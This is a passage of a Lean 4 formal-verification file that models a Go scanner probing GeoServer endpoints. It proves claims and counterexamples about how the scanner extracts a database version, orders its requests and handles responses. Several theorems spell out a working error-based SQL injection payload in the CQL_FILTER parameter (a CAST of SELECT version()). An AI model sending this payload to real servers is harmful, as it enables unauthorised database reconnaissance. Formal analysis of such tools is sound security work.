        = (pad ++ (errorPattern ++ lit ": " ++ [quote])) ++ (versionValue ++ [quote] ++ rest) := by
      simp only [driverMessage, List.append_assoc]
    have hl : 96 ≤ (pad ++ driverMessage ++ rest).length := by
      rw [hsplit]; simp only [List.length_append, hpad, hm]; omega
    rw [if_pos hl] at h
    rw [h]
    congr 1
    rw [hsplit]
    exact List.drop_left' (by simp only [List.length_append, hpad, hm])
  · intro text' fragment hf
    have hne : Index text' errorPattern ≠ -1 := by
      intro h; rw [(extractVersion_absent_iff text').2 h] at hf; cases hf
    obtain ⟨start, stop, errorLine, hb, -, -, -, -, hs, -, -⟩ := bounds_of_index text' hne
    have hno := errorLine_no_nl text' errorLine start stop hne hb hs
    rw [extractVersion_eq text' errorLine start stop hne hb hs] at hf
    split_ifs at hf
    cases hf
    have hfr : nl ∉ errorLine.drop 96 := fun hm => hno (List.mem_of_mem_drop hm)
    refine ⟨hfr, ?_, ?_⟩
    · intro hh; exact hfr (List.mem_of_mem_head? hh)
    · intro hh; exact hfr (List.mem_of_mem_getLast? hh)

set_option maxRecDepth 100000 in
theorem offset_extraction_keeps_line_tail_witness :
    ContainingLine sampleText samplePre (filler 54 ++ driverMessage ++ []) samplePost ∧
    (filler 54).length = 54 ∧
    extractVersion sampleText = .found (versionValue ++ [quote] ++ []) :=
  ⟨by decide, by decide,
    (offset_extraction_keeps_line_tail sampleText samplePre (filler 54) [] samplePost
      (by decide) (by decide)).1⟩

set_option maxRecDepth 100000 in
/-- C2, counterexample: on a text whose only line is 54 filler bytes followed by
the driver message, byte 96 of the line is the first byte of the quoted value,
and the fragment is the value with the closing quote, not the value; with 55
filler bytes, where byte 96 is the opening quote, the fragment is the value
with both quotes. -/
theorem offset_extraction_not_exact :
    ((filler 54 ++ driverMessage).drop 96).take 25 = versionValue ∧
    Index (filler 54 ++ driverMessage) errorPattern ≠ -1 ∧
    extractVersion (filler 54 ++ driverMessage) = .found (versionValue ++ [quote]) ∧
    extractVersion (filler 54 ++ driverMessage) ≠ .found versionValue ∧
    extractVersion (filler 55 ++ driverMessage) = .found (quote :: versionValue ++ [quote]) ∧
    extractVersion (filler 55 ++ driverMessage) ≠ .found versionValue := by
  decide

/-- C10: when the pattern first occurs at index `i`, the bounds of lines
365-371 satisfy `0 ≤ start ≤ i < end ≤ len(text)`, the slice `text[start:end]`
is in range, and lines 361-378 end in the out-of-range panic exactly when the
error line is shorter than 96 bytes. -/
theorem error_line_bounds_in_range (text : GoString) (i : Int)
    (hi : Index text errorPattern = i) (hne : i ≠ -1) :
    ∃ start stop errorLine,
      errorLineBounds text i = some (start, stop) ∧
      0 ≤ start ∧ start ≤ i ∧ i < stop ∧ stop ≤ (text.length : Int) ∧
      slice text start stop = some errorLine ∧
      (extractVersion text = .panic ↔ errorLine.length < 96) := by
  subst hi
  obtain ⟨start, stop, errorLine, hb, h0, h1, h2, h3, hs, -, -⟩ := bounds_of_index text hne
  refine ⟨start, stop, errorLine, hb, h0, h1, h2, h3, hs, ?_⟩
  rw [extractVersion_eq text errorLine start stop hne hb hs]
  split_ifs with h
  · constructor
    · intro hc; cases hc
    · intro hc; omega
  · constructor
    · intro _; omega
    · intro _; rfl

set_option maxRecDepth 100000 in
theorem error_line_bounds_in_range_witness :
    Index sampleText errorPattern = 102 ∧
    ∃ start stop errorLine,
      errorLineBounds sampleText 102 = some (start, stop) ∧
      0 ≤ start ∧ start ≤ 102 ∧ 102 < stop ∧ stop ≤ (sampleText.length : Int) ∧
      slice sampleText start stop = some errorLine ∧
      (extractVersion sampleText = .panic ↔ errorLine.length < 96) :=
  ⟨by decide, error_line_bounds_in_range sampleText 102 (by decide) (by decide)⟩

/-- C3 (as amended): whatever each candidate request is answered with, the
requests made by `GetDatabaseVersion` are the candidate URLs in list order up
to and including the first that triggers (status exactly 200, body decodes,
text contains the pattern), and all three when none triggers; in particular when only the third
triggers, the requests are the first, second and third URL and nothing else. -/
theorem requests_stop_at_first_trigger (w : World J) (e t : GoString) :
    (GetDatabaseVersion w e t).requests = throughFirst (triggers w) (candidateURLs e t) ∧
    (GetDatabaseVersion w e t).requests <+: candidateURLs e t ∧
    ((∀ u ∈ candidateURLs e t, triggers w u = false) →
      (GetDatabaseVersion w e t).requests = candidateURLs e t) ∧
    (triggers w (requestURL e t (lit "strStartsWith" ++ encodedPayload)) = false →
      triggers w (requestURL e t (lit "strEndsWith" ++ encodedPayload)) = false →
      triggers w (requestURL e t (lit "strContains" ++ encodedPayload)) = true →
      (GetDatabaseVersion w e t).requests =
        [requestURL e t (lit "strStartsWith" ++ encodedPayload),
         requestURL e t (lit "strEndsWith" ++ encodedPayload),
         requestURL e t (lit "strContains" ++ encodedPayload)]) := by
  have h := GetDatabaseVersion_requests w e t
  refine ⟨h, ?_, ?_, ?_⟩
  · rw [h]; exact throughFirst_leading _ _
  · intro hall
    rw [h]
    simp only [candidateURLs, cqlFilters, List.map_cons, List.map_nil, List.mem_cons,
      List.mem_singleton, List.not_mem_nil, or_false, forall_eq_or_imp, forall_eq] at hall ⊢
    simp [throughFirst, hall.1, hall.2.1, hall.2.2]
  · intro h1 h2 h3
    rw [h]
    simp [candidateURLs, cqlFilters, throughFirst, h1, h2, h3]

set_option maxRecDepth 100000 in
theorem requests_stop_at_first_trigger_witness :
    triggers thirdOnlyWorld
      (requestURL sampleEndpoint sampleType (lit "strStartsWith" ++ encodedPayload)) = false ∧
    triggers thirdOnlyWorld
      (requestURL sampleEndpoint sampleType (lit "strEndsWith" ++ encodedPayload)) = false ∧
    triggers thirdOnlyWorld
      (requestURL sampleEndpoint sampleType (lit "strContains" ++ encodedPayload)) = true ∧
    (GetDatabaseVersion thirdOnlyWorld sampleEndpoint sampleType).requests =
      [requestURL sampleEndpoint sampleType (lit "strStartsWith" ++ encodedPayload),
       requestURL sampleEndpoint sampleType (lit "strEndsWith" ++ encodedPayload),
       requestURL sampleEndpoint sampleType (lit "strContains" ++ encodedPayload)] :=
  ⟨by decide, by decide, by decide,
    (requests_stop_at_first_trigger thirdOnlyWorld sampleEndpoint sampleType).2.2.2
      (by decide) (by decide) (by decide)⟩

set_option maxRecDepth 100000 in
/-- C3, counterexample: on a server that answers the first candidate with the
success status 201 and a text that decodes and contains the pattern, the
candidates up to the first with a success status, a decodable body and the
pattern are the first alone, yet `GetDatabaseVersion` requests all three and
ends without a fragment. -/
theorem requests_pass_over_status_201 :
    createdWorld.httpGet
        (requestURL sampleEndpoint sampleType (lit "strStartsWith" ++ encodedPayload))
      = .response 201 sampleText ∧
    isSuccessStatus 201 = true ∧
    Index sampleText errorPattern ≠ -1 ∧
    throughFirst (triggersOnSuccess createdWorld) (candidateURLs sampleEndpoint sampleType)
      = [requestURL sampleEndpoint sampleType (lit "strStartsWith" ++ encodedPayload)] ∧
    GetDatabaseVersion createdWorld sampleEndpoint sampleType
      = ⟨candidateURLs sampleEndpoint sampleType, .exhausted⟩ ∧
    (GetDatabaseVersion createdWorld sampleEndpoint sampleType).requests
      ≠ throughFirst (triggersOnSuccess createdWorld)
          (candidateURLs sampleEndpoint sampleType) := by
  decide

/-- C5: for a body made of lines joined by line feeds, where every line that is
not blank decodes, the loop of lines 218-240 ends without error and its array
holds, in order, exactly the decodings of the lines that are not blank. -/
theorem normalize_keeps_decoded_lines (w : World J) (ls : List GoString)
    (hnl : ∀ l ∈ ls, nl ∉ l)
    (hdec : ∀ l ∈ ls, isBlank w l = false → (w.jsonUnmarshal l).isSome) :
    ∃ arr, normalize w (joinLines ls) = .ok arr ∧
      List.Forall₂ (fun l o => w.jsonUnmarshal l = some o)
        (ls.filter fun l => !isBlank w l) arr ∧
      arr.length = (ls.filter fun l => !isBlank w l).length := by
  by_cases hne : ls = []
  · subst hne
    exact ⟨[], normalize_nil w, by simp, by simp⟩
  · obtain ⟨arr, h1, h2⟩ := decodeLines_ok w ls [] hdec
    refine ⟨arr, ?_, h2, h2.length_eq.symm⟩
    unfold normalize
    rw [Split_joinLines ls hne hnl, h1]
    rfl

set_option maxRecDepth 100000 in
theorem normalize_keeps_decoded_lines_witness :
    (∀ l ∈ sampleLines, nl ∉ l) ∧
    (sampleLines.filter fun l => !isBlank (sampleWorld fun _ => .readError) l)
      = [[123, 125], [123, 125, 13]] ∧
    ∃ arr, normalize (sampleWorld fun _ => .readError) (joinLines sampleLines) = .ok arr ∧
      List.Forall₂ (fun l o => (sampleWorld fun _ => .readError).jsonUnmarshal l = some o)
        (sampleLines.filter fun l => !isBlank (sampleWorld fun _ => .readError) l) arr ∧
      arr.length
        = (sampleLines.filter fun l => !isBlank (sampleWorld fun _ => .readError) l).length :=
  ⟨by decide, by decide,
    normalize_keeps_decoded_lines (sampleWorld fun _ => .readError) sampleLines
      (by decide) (by decide)⟩

/-- C6 (as amended): when the body of the response to the feature request has
a line that is not blank and on which `json.Unmarshal` returns an error, the
loop of lines 225-240 ends with an
error, `GetFeatureCollection` returns an error, and among its effects there is
no marshalling of an array and no write of the output file. -/
theorem malformed_line_fails_whole_fetch (w : World J) (e t : GoString) (n statusCode : Int)
    (body : GoString)
    (hresp : w.httpGet (specFeatureURL e t (lit "1000")) = .response statusCode body)
    (hbad : ∃ line ∈ Split body nl, isBlank w line = false ∧ w.jsonUnmarshal line = none) :
    (∃ line, normalize w body = .error line) ∧
    (GetFeatureCollection w e t n).err ≠ none ∧
    ∀ eff ∈ (GetFeatureCollection w e t n).effects,
      (∀ a, eff ≠ .marshalIndent a) ∧ (∀ p d, eff ≠ .writeFile p d) ∧
        (∀ p, eff ≠ .logSaved p) := by
  obtain ⟨line, hline, -, -, -⟩ := decodeLines_error w (Split body nl) [] hbad
  have hnorm : normalize w body = .error line := hline
  refine ⟨⟨line, hnorm⟩, ?_⟩
  unfold GetFeatureCollection
  cases hp : w.urlParseHost e with
  | none => simp
  | some domain =>
    simp only []
    cases hm : w.mkdirAll (w.filepathJoin [lit "output", lit "databases", domain]) with
    | false => simp
    | true =>
      simp only [featureURL_eq, hresp, hnorm, Bool.not_true, Bool.false_eq_true, if_false]
      by_cases hs : statusCode = 200
      · simp [hs]
      · simp [hs]

set_option maxRecDepth 100000 in
theorem malformed_line_fails_whole_fetch_witness :
    (∃ line ∈ Split (lit "\x7b\x7d\nnot json\n\x7b\x7d") nl,
      isBlank (sampleWorld fun _ => .response 200 (lit "\x7b\x7d\nnot json\n\x7b\x7d")) line
        = false ∧
      (sampleWorld fun _ => .response 200 (lit "\x7b\x7d\nnot json\n\x7b\x7d")).jsonUnmarshal
        line = none) ∧
    (GetFeatureCollection (sampleWorld fun _ => .response 200 (lit "\x7b\x7d\nnot json\n\x7b\x7d"))
      sampleEndpoint sampleType 10).err ≠ none :=
  ⟨⟨lit "not json", by decide, by decide, by decide⟩,
    (malformed_line_fails_whole_fetch
      (sampleWorld fun _ => .response 200 (lit "\x7b\x7d\nnot json\n\x7b\x7d"))
      sampleEndpoint sampleType 10 200 (lit "\x7b\x7d\nnot json\n\x7b\x7d") rfl
      ⟨lit "not json", by decide, by decide, by decide⟩).2.1⟩

set_option maxRecDepth 100000 in
/-- C6, counterexample: the body with the line `null` between two objects has
a line that is not blank and is not a JSON object, yet on a decoder that
returns no error for `null` the loop appends the nil map, and
`GetFeatureCollection` returns no error, marshals the array of three elements
and writes the output file. -/
theorem null_line_passes_the_fetch :
    lit "null" ∈ Split nullLineBody nl ∧
    isBlank nullLineWorld (lit "null") = false ∧
    startsAsObject (lit "null") = false ∧
    normalize nullLineWorld nullLineBody = .ok [[123, 125], lit "null", [123, 125]] ∧
    (GetFeatureCollection nullLineWorld sampleEndpoint sampleType 10).err = none ∧
    (GetFeatureCollection nullLineWorld sampleEndpoint sampleType 10).effects
      = [.mkdirAll (lit "output/databases/localhost:8080"),
         .httpGet (specFeatureURL sampleEndpoint sampleType (lit "1000")),
         .marshalIndent [[123, 125], lit "null", [123, 125]],
         .writeFile (lit "output/databases/localhost:8080/topp:states.json")
           ([123, 125] ++ nl :: lit "null" ++ nl :: [123, 125]),
         .logSaved (lit "output/databases/localhost:8080/topp:states.json")] :=
  ⟨by decide, by decide, by decide, rfl, by decide, by decide⟩

set_option maxRecDepth 100000 in
/-- C7, the code at a concrete input: for the endpoint `http://localhost:8080`
and the feature type `topp:states`, the quote rewrite of line 330 leaves every
escaped candidate name as it is, and in the CQL_FILTER value of each of the
three URLs the text `%27%27%27` does not occur, while the doubled quote stands
as the bare `%27%27` (at offset 27, 25 and 25). -/
theorem quote_rewrite_misses_payload :
    cqlFilters.map encodeCQLFilter = cqlFilters ∧
    probeURL sampleEndpoint sampleType (lit "strStartsWith") = some (lit "http://localhost:8080/geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName=topp:states&CQL_FILTER=strStartsWith%28nome%2C%27x%27%27%29+%3D+true+and+1%3D%28SELECT+CAST+%28%28SELECT+version%28%29%29+AS+INTEGER%29%29+--+%27%29+%3D+true") ∧
    (cqlFilters.map fun f =>
      (probeURL sampleEndpoint sampleType f).map fun url =>
        (Index (cqlFilterValue url) (lit "%27%27%27"), Index (cqlFilterValue url) (lit "%27%27")))
      = [some (-1, 27), some (-1, 25), some (-1, 25)] := by
  decide

set_option maxRecDepth 100000 in
/-- C8 (as amended): for every endpoint and feature-type name the URLs built
for the candidates are, in list order,
`{endpoint}/geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName={name}&CQL_FILTER={f}{payload}`
for `f` = `strStartsWith`, `strEndsWith`, `strContains`; the percent-decoded
CQL_FILTER value is `f(nome,'x'') = true and 1=(SELECT CAST ((SELECT version()) AS INTEGER)) -- ') = true`;
and the requests of a run are a leading part of that list. -/
theorem sent_predicates (w : World J) (e t : GoString) :
    cqlFilters.map (probeURL e t) =
      [some (requestURL e t (lit "strStartsWith" ++ encodedPayload)),
       some (requestURL e t (lit "strEndsWith" ++ encodedPayload)),
       some (requestURL e t (lit "strContains" ++ encodedPayload))] ∧
    QueryUnescape (lit "strStartsWith" ++ encodedPayload)
      = some (sentPredicate (lit "strStartsWith")) ∧
    QueryUnescape (lit "strEndsWith" ++ encodedPayload)
      = some (sentPredicate (lit "strEndsWith")) ∧
    QueryUnescape (lit "strContains" ++ encodedPayload)
      = some (sentPredicate (lit "strContains")) ∧
    (GetDatabaseVersion w e t).requests <+:
      [requestURL e t (lit "strStartsWith" ++ encodedPayload),
       requestURL e t (lit "strEndsWith" ++ encodedPayload),
       requestURL e t (lit "strContains" ++ encodedPayload)] := by
  refine ⟨?_, by decide, by decide, by decide, ?_⟩
  · have h := encodeCQLFilter_cqlFilters
    simp only [cqlFilters, List.map_cons, List.map_nil, List.cons.injEq, and_true] at h
    simp only [cqlFilters, List.map_cons, List.map_nil, probeURL_eq, h.1, h.2.1, h.2.2]
  · rw [GetDatabaseVersion_requests]
    exact throughFirst_leading _ _

set_option maxRecDepth 100000 in
/-- C8, counterexample: for the endpoint `http://localhost:8080` and the
feature type `topp:states`, the percent-decoded CQL_FILTER values of the URLs
built for the three candidates are the predicates with `strStartsWith`,
`strEndsWith`, `strContains` over the attribute `nome`, which is not the
sequence of the template with `starts-with`, `ends-with`, `contains`. -/
theorem sent_predicates_differ_from_template :
    (cqlFilters.map fun f =>
      (probeURL sampleEndpoint sampleType f).bind fun url => QueryUnescape (cqlFilterValue url))
      = cqlFilters.map (fun f => some (sentPredicate f)) ∧
    (cqlFilters.map fun f =>
      (probeURL sampleEndpoint sampleType f).bind fun url => QueryUnescape (cqlFilterValue url))
      ≠ specCandidates.map (fun f => some (specPredicate f)) := by
  decide

set_option maxRecDepth 100000 in
/-- C9, the code at a concrete input: called with the maximum feature count 10
(as `main` does), `GetFeatureCollection` requests the URL that ends in
`maxFeatures=1000`, which is not the URL with `maxFeatures=10`; the count is
1000 for every value of the parameter. -/
theorem feature_url_ignores_max_features :
    featureURL sampleEndpoint sampleType 10 = some (lit "http://localhost:8080/geoserver/ows?service=WFS&version=1.0.0&request=GetFeature&typeName=topp:states&sortOrder=ASC&outputFormat=application/json&maxFeatures=1000") ∧
    featureURL sampleEndpoint sampleType 10
      ≠ some (specFeatureURL sampleEndpoint sampleType (lit "10")) ∧
    (GetFeatureCollection (sampleWorld fun _ => .transportError) sampleEndpoint sampleType
      10).effects
      = [.mkdirAll (lit "output/databases/localhost:8080"),
         .httpGet (specFeatureURL sampleEndpoint sampleType (lit "1000"))] ∧
    ∀ (e t : GoString) (n : Int),
      featureURL e t n = some (specFeatureURL e t (lit "1000")) := by
  refine ⟨by decide, by decide, by decide, featureURL_eq⟩

set_option maxRecDepth 100000 in
/-- C4, the code at a concrete input: with the catalog `a`, `b` on a server
that answers the feature request for `a` with status 404, the loop of `main`
makes the one call of `GetFeatureCollection` for `a`, which returns the status
error, and nothing is run for `b`; on the same server the catalog `b` alone is
fetched and probed. -/
theorem fetch_failure_ends_the_run :
    (GetFeatureCollection missingTypeWorld sampleEndpoint (lit "a") 10).err
      = some (.unexpectedStatus 404) ∧
    (mainLoop missingTypeWorld sampleEndpoint true [lit "a", lit "b"]).map MainStep.typeName
      = [lit "a"] ∧
    (mainLoop missingTypeWorld sampleEndpoint true [lit "b"]).map MainStep.typeName
      = [lit "b", lit "b"] := by
  decide

end Geoserver
